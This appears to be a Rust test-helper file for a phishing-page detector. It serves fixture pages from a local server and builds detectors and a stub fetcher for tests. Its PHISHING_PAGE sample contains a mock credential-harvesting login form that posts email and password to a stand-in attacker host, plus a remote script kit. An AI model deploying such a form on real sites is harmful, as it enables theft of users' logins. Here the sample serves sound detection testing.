// Copyright (c) 2025 Kirky.X
//
// Licensed under the MIT License
// See LICENSE file in the project root for full license information.

use async_trait::async_trait;
use axum::{routing::get, Router};
use phishscan::domain::classifier::Classifier;
use phishscan::domain::models::feature_schema::FeatureSchema;
use phishscan::domain::services::content_features::ContentFeatureExtractor;
use phishscan::domain::services::detection_service::PhishingDetector;
use phishscan::domain::services::feature_assembler::FeatureAssembler;
use phishscan::engines::reqwest_engine::ReqwestEngine;
use phishscan::engines::traits::{EngineError, FetchRequest, FetchResponse, PageFetcher};
use phishscan::infrastructure::model::linear_model::LinearModel;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;
use tokio::net::TcpListener;

pub const PHISHING_PAGE: &str = r##"
<html>
  <head>
    <link rel="icon" href="https://cdn.evil-static.net/favicon.ico">
    <script src="https://cdn.evil-static.net/kit.js"></script>
  </head>
  <body>
    <a href="#">Forgot password?</a>
    <a href="#">Help</a>
    <a href="https://www.paypal.com/">PayPal</a>
    <form action="http://collector.evil.net/post.php" method="post">
      <input name="email"><input name="password" type="password">
    </form>
    <iframe src="https://tracker.evil.net/"></iframe>
  </body>
</html>
"##;

pub const BENIGN_PAGE: &str = r#"
<html>
  <head>
    <title>Example Docs</title>
    <link rel="icon" href="/favicon.ico">
    <link rel="stylesheet" href="/site.css">
  </head>
  <body>
    <a href="/guide">Guide</a>
    <a href="/api">API</a>
    <form action="/search"></form>
  </body>
</html>
"#;

/// 启动本地测试服务器，返回基础 URL
pub async fn start_test_server() -> String {
    let app = Router::new()
        .route("/login", get(|| async { axum::response::Html(PHISHING_PAGE) }))
        .route("/docs", get(|| async { axum::response::Html(BENIGN_PAGE) }))
        .route(
            "/gone",
            get(|| async { axum::http::StatusCode::NOT_FOUND }),
        )
        .route(
            "/slow",
            get(|| async {
                tokio::time::sleep(Duration::from_secs(3)).await;
                axum::response::Html(BENIGN_PAGE)
            }),
        );

    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();

    tokio::spawn(async move {
        axum::serve(listener, app).await.unwrap();
    });

    format!("http://{}", addr)
}

pub fn shipped_model() -> LinearModel {
    LinearModel::from_file(Path::new("models/website_classifier_model.json"))
        .expect("shipped model loads")
}

pub fn detector_with(
    fetcher: Arc<dyn PageFetcher>,
    classifier: Arc<dyn Classifier>,
    timeout: Duration,
) -> PhishingDetector {
    let content = ContentFeatureExtractor::new(fetcher, timeout, "Mozilla/5.0 (Test)".to_string());
    PhishingDetector::new(
        FeatureAssembler::new(FeatureSchema::training(), content),
        classifier,
    )
}

pub fn live_detector(timeout: Duration) -> PhishingDetector {
    detector_with(Arc::new(ReqwestEngine), Arc::new(shipped_model()), timeout)
}

/// 总是无法连接的获取引擎
pub struct UnreachableFetcher;

#[async_trait]
impl PageFetcher for UnreachableFetcher {
    async fn fetch(&self, _request: &FetchRequest) -> Result<FetchResponse, EngineError> {
        Err(EngineError::Other("dns failure".to_string()))
    }

    fn name(&self) -> &'static str {
        "unreachable"
    }
}
